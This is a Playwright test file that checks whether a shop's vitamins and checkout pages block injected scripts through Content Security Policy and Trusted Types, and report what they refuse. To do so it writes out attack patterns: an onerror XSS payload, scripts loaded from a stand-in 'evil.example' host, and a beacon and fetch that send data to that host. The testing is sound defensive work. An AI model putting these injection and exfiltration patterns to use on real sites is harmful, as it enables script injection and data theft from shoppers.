import type { Page } from '@playwright/test';

import { startAtPayment } from './support/shopApi';
import { expect, test } from './support/test';

declare global {
  interface Window {
    ran?: string[];
  }
}

const evil = 'https://evil.example';
/** The shop's own collector hears nothing of these tests: a report that is sent after one has ended would be a finding there. */
const collector = '/reports-of-intruder';

/** A page into which somebody got markup: what it brings runs nothing, and what it refused is reported. */
const openWithIntruder = async (page: Page, path: string): Promise<{ asked: string[]; reports: string[] }> => {
  const asked: string[] = [];
  const reports: string[] = [];
  await page.route(`${evil}/**`, (route) => {
    asked.push(route.request().url());
    return route.fulfill({ contentType: 'text/javascript', body: '(window.ran ??= []).push("foreign")' });
  });
  await page.route(`**${collector}`, (route) => {
    reports.push(route.request().postData() ?? '');
    return route.fulfill({ status: 204 });
  });
  await page.route(
    (url) => url.pathname === path,
    async (route) => {
      const answer = await route.fetch();
      const markup = `<script>(window.ran ??= []).push('inline')</script><script src="${evil}/a.js"></script>`;
      const body = (await answer.text()).replace('</head>', `${markup}</head>`);
      const { 'content-security-policy': policy = '', ...others } = answer.headers();
      const reporting = policy.replace('report-uri /csp-report', `report-uri ${collector}`);
      await route.fulfill({
        status: answer.status(),
        headers: { ...others, 'content-security-policy': reporting },
        body,
      });
    },
  );
  await page.goto(path);
  return { asked, reports };
};

/** What a script that runs already tries in order to run more, or to carry something away; the names of what it could. */
const tryEverything = (page: Page): Promise<string[]> =>
  page.evaluate(async (host) => {
    const done: string[] = [];
    const attempt = (name: string, act: () => unknown): void => {
      try {
        act();
        done.push(name);
      } catch {
        // As it should be.
      }
    };
    const ran = '(window.ran ??= []).push("text")';
    const script = document.createElement('script');
    attempt('innerHTML', () => (document.createElement('div').innerHTML = '<img src=x onerror=alert(1)>'));
    attempt('text of a script', () => (script.text = ran));
    attempt('address of a script', () => (script.src = `${host}/b.js`));
    attempt('worker', () => new Worker(`${host}/worker.js`));
    const timer: unknown = Reflect.get(window, 'setTimeout');
    attempt('timer', () => typeof timer === 'function' && Reflect.apply(timer, window, [ran]));
    const types: unknown = Reflect.get(window, 'trustedTypes');
    const create: unknown = typeof types === 'object' && types ? Reflect.get(types, 'createPolicy') : undefined;
    for (const name of [
      'content',
      'dompurify',
      'shop',
      'webpack',
      'captcha',
      'video',
      'maps',
      'payment',
      'default',
      'evil',
    ]) {
      attempt(`policy ${name}`, () => typeof create === 'function' && Reflect.apply(create, types, [name, {}]));
    }
    document.body.append(Object.assign(document.createElement('p'), { id: 'intruder' }));
    const handler = document.createElement('button');
    attempt('handler', () => {
      handler.setAttribute('onclick', ran);
      handler.click();
      if ((window.ran ?? []).length === 0) throw new Error('It was not run.');
    });
    const image = new Image();
    image.src = `${host}/beacon?data=1`;
    await fetch(`${host}/take`, { mode: 'no-cors' }).then(
      () => done.push('fetch'),
      () => undefined,
    );
    return done;
  }, evil);

const expectNothing = async (page: Page, { asked, reports }: { asked: string[]; reports: string[] }): Promise<void> => {
  expect(await tryEverything(page)).toEqual([]);
  expect(await page.evaluate(() => window.ran)).toBeUndefined();
  expect(asked).toEqual([]);
  await expect
    .poll(() =>
      ['script-src-elem', 'require-trusted-types-for', 'trusted-types', 'connect-src', 'img-src'].filter(
        (name) => !reports.join('').includes(name),
      ),
    )
    .toEqual([]);
};

// What the browser refused is what the journeys are about.
test.afterEach(({ uncaught }) => void uncaught.splice(0));

test('A-08: what somebody got into a page runs nothing and carries nothing away', async ({ page }) => {
  const found = await openWithIntruder(page, '/vitamins.html');
  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Vitamins');
  // What no page waits for has come by then, and has claimed the policies.
  await page.waitForFunction(() => window.prerenderReady);
  await expectNothing(page, found);
});

test('A-17: a script that is not on the list of the payment page is refused and reported', async ({ page }) => {
  await startAtPayment(page);
  const found = await openWithIntruder(page, '/checkout');
  await expect(page.getByRole('button', { name: /^Pay/ }).first()).toBeAttached();
  // What no page waits for has come by then, and has claimed the policies.
  await page.waitForFunction(() => window.prerenderReady);
  await expectNothing(page, found);
});
